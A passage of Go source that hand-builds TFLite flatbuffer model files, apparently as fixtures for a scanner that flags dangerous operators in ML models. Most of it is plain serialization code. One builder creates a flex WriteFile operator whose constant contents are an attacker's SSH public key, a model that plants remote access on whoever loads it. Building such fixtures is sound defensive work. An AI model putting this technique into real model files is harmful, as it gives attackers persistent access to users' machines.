	panic(fmt.Sprintf("flatbuffer value of type %T", v))
}

// finish writes the root offset and file identifier, then the root table.
func finishFB(root *tbl, ident string) []byte {
	w := &fbw{buf: make([]byte, 8)}
	copy(w.buf[4:], ident)
	tp := w.table(root)
	w.putU32(0, uint32(tp))
	w.pad(4)
	return w.buf
}

// TFLite builtin operator codes and tensor types (schema.fbs).
const (
	opAdd            = 0
	opFullyConnected = 9
	opCustom         = 32
	ttFloat32        = 0
	ttString         = 5
)

type tfOp struct {
	code    int32
	custom  string
	inputs  []int32
	outputs []int32
	options []byte // custom_options
}

type tfTensor struct {
	name  string
	shape []int32
	typ   uint8
	data  []byte // constant data: gets a buffer
}

type tfModel struct {
	tensors []tfTensor
	inputs  []int32
	outputs []int32
	ops     []tfOp
}

func floats(n int) []byte {
	b := make([]byte, 4*n)
	for i := 0; i < n; i++ {
		binary.LittleEndian.PutUint32(b[4*i:], 0x3dcccccd) // 0.1
	}
	return b
}

// stringTensor is TFLite's string tensor buffer: count, offsets, bytes.
func stringTensor(s string) []byte {
	b := binary.LittleEndian.AppendUint32(nil, 1)
	b = binary.LittleEndian.AppendUint32(b, 12)
	b = binary.LittleEndian.AppendUint32(b, uint32(12+len(s)))
	return append(b, s...)
}

// tflite writes a Model: version 0 (3), operator_codes 1, subgraphs 2,
// description 3, buffers 4, metadata 6.
func tflite(m tfModel) []byte {
	buffers := fTables{&tbl{}} // buffer 0: the empty sentinel
	var tensors fTables
	for _, t := range m.tensors {
		tt := tbl{{0, fI32s(t.shape)}, {1, fU8(t.typ)}, {3, fStr(t.name)}}
		if t.data != nil {
			tt = append(tt, field{2, fU32(len(buffers))})
			buffers = append(buffers, &tbl{{0, fBytes(t.data)}})
		}
		tensors = append(tensors, &tt)
	}
	// Operator codes, one per distinct (code, custom).
	var codes fTables
	index := map[string]int{}
	var ops fTables
	for _, o := range m.ops {
		key := fmt.Sprint(o.code, o.custom)
		i, ok := index[key]
		if !ok {
			i = len(codes)
			index[key] = i
			oc := tbl{{0, fU8(min(o.code, 127))}, {2, fI32(1)}, {3, fI32(o.code)}}
			if o.custom != "" {
				oc = append(oc, field{1, fStr(o.custom)})
			}
			codes = append(codes, &oc)
		}
		op := tbl{{0, fU32(i)}, {1, fI32s(o.inputs)}, {2, fI32s(o.outputs)}}
		if o.options != nil {
			op = append(op, field{5, fBytes(o.options)}, field{6, fU8(0)})
		}
		ops = append(ops, &op)
	}
	sg := tbl{{0, tensors}, {1, fI32s(m.inputs)}, {2, fI32s(m.outputs)}, {3, ops}, {4, fStr("main")}}
	// Metadata: min_runtime_version, and TFLITE_METADATA holding a ModelMetadata.
	buffers = append(buffers, &tbl{{0, fBytes([]byte("1.14.0\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"))}})
	rt := len(buffers) - 1
	meta := finishFB(&tbl{{0, fStr("tiny classifier")}, {1, fStr("A two-layer test model.")}, {2, fStr("v1")}}, "M001")
	buffers = append(buffers, &tbl{{0, fBytes(meta)}})
	md := len(buffers) - 1
	model := tbl{
		{0, fU32(3)},
		{1, codes},
		{2, fTables{&sg}},
		{3, fStr("MLIR Converted.")},
		{4, buffers},
		{6, fTables{&tbl{{0, fStr("min_runtime_version")}, {1, fU32(rt)}}, &tbl{{0, fStr("TFLITE_METADATA")}, {1, fU32(md)}}}},
	}
	return finishFB(&model, "TFL3")
}

// benignOps: y = relu(x W + b) + c, with FULLY_CONNECTED and ADD.
func benignOps() tfModel {
	return tfModel{
		tensors: []tfTensor{
			{name: "x", shape: []int32{1, 4}},
			{name: "dense/kernel", shape: []int32{8, 4}, data: floats(32)},
			{name: "dense/bias", shape: []int32{8}, data: floats(8)},
			{name: "dense/out", shape: []int32{1, 8}},
			{name: "c", shape: []int32{1, 8}, data: floats(8)},
			{name: "y", shape: []int32{1, 8}},
		},
		inputs: []int32{0}, outputs: []int32{5},
		ops: []tfOp{
			{code: opFullyConnected, inputs: []int32{0, 1, 2}, outputs: []int32{3}},
			{code: opAdd, inputs: []int32{3, 4}, outputs: []int32{5}},
		},
	}
}

// detectionOps adds TFLite_Detection_PostProcess, a custom op the
// interpreter registers itself (SSD detectors end with it).
func detectionOps() tfModel {
	m := benignOps()
	m.tensors = append(m.tensors, tfTensor{name: "anchors", shape: []int32{2, 4}, data: floats(8)}, tfTensor{name: "boxes", shape: []int32{1, 2, 4}})
	m.ops = append(m.ops, tfOp{code: opCustom, custom: "TFLite_Detection_PostProcess", inputs: []int32{5, 5, 6}, outputs: []int32{7},
		options: flexbufMap()})
	m.outputs = []int32{7}
	return m
}

func customOps(name string) tfModel {
	m := benignOps()
	m.tensors = append(m.tensors, tfTensor{name: "z", shape: []int32{1, 8}})
	m.ops = append(m.ops, tfOp{code: opCustom, custom: name, inputs: []int32{5}, outputs: []int32{6}})
	m.outputs = []int32{6}
	return m
}

// flexOps adds a flex operator with the given custom code, options op name
// and NodeDef op; a path gives it a constant string input.
func flexOps(custom, optName, nodeOp, path string) tfModel {
	m := benignOps()
	var nd enc
	inputs := []int32{5, 4}
	if path != "" {
		m.tensors = append(m.tensors, tfTensor{name: "filename", shape: []int32{}, typ: ttString, data: stringTensor(path)})
		inputs = []int32{6}
		if nodeOp == "WriteFile" {
			m.tensors = append(m.tensors, tfTensor{name: "contents", shape: []int32{}, typ: ttString, data: stringTensor("ssh-ed25519 AAAA attacker")})
			inputs = []int32{6, 7}
		}
		nd = node(nodeOp, nodeOp, []string{"filename"})
	} else {
		nd = node(nodeOp, nodeOp, []string{"dense/out", "c"}, attr{"T", attrType(dtFloat)})
	}
	out := int32(len(m.tensors))
	m.tensors = append(m.tensors, tfTensor{name: "flex_out", shape: []int32{1, 8}, typ: ttString})
	m.ops = append(m.ops, tfOp{code: opCustom, custom: custom, inputs: inputs, outputs: []int32{out}, options: flexbufStrings(optName, string(nd))})
	m.outputs = []int32{out}
	return m
}

// flexbufStrings is a FlexBuffers vector of strings, all widths 4 bytes,
// as flatbuffers' flexbuffers::Builder::Vector writes it (untyped vector).
func flexbufStrings(ss ...string) []byte {
	var b []byte
	var pos []int
	for _, s := range ss {
		for len(b)%4 != 0 {
			b = append(b, 0)
		}
		b = binary.LittleEndian.AppendUint32(b, uint32(len(s)))
		pos = append(pos, len(b))
		b = append(append(b, s...), 0)
	}
	for len(b)%4 != 0 {
		b = append(b, 0)
	}
	b = binary.LittleEndian.AppendUint32(b, uint32(len(ss)))
	vec := len(b)
	for i, p := range pos {
		b = binary.LittleEndian.AppendUint32(b, uint32(vec+4*i-p))
	}
	for range ss {
		b = append(b, 5<<2|2) // FBT_STRING, 4-byte length
	}
	for len(b)%4 != 0 {
		b = append(b, 0)
	}
	root := len(b)
	b = binary.LittleEndian.AppendUint32(b, uint32(root-vec))
	return append(b, 10<<2|2, 4) // FBT_VECTOR of 4-byte elements; root width 4
}

// flexbufMap stands in for the detection op's options, a FlexBuffers map
// the scanner does not read: a root of type map ending the bytes.
func flexbufMap() []byte {
	return []byte{0, 0, 0, 0, 0, 0, 0, 0, 4, 9<<2 | 2, 4}
}
